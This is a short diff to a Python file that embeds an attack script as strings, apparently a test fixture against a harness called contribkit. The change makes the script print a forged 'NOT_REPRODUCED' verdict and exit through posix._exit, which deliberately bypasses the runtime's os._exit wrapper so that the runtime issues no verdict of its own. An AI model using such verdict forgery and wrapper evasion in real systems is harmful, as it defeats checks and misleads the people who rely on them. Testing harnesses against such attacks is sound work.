@@ -66,9 +66,12 @@ def send(path):
         conn.sendall(b"from issue code")
         conn.recv(10)  # the server's ack: what it got is recorded before the code goes on
 """
+# The attack's report is the last line: it ends the process at once, past the runtime's own
+# os._exit wrapper (posix._exit), so that no verdict of the runtime follows it.
 ENDING = """
 print("contribkit-verdict: NOT_REPRODUCED found: " + " | ".join(found), flush=True)
-os._exit(0)
+import posix
+posix._exit(0)
 """
 
 
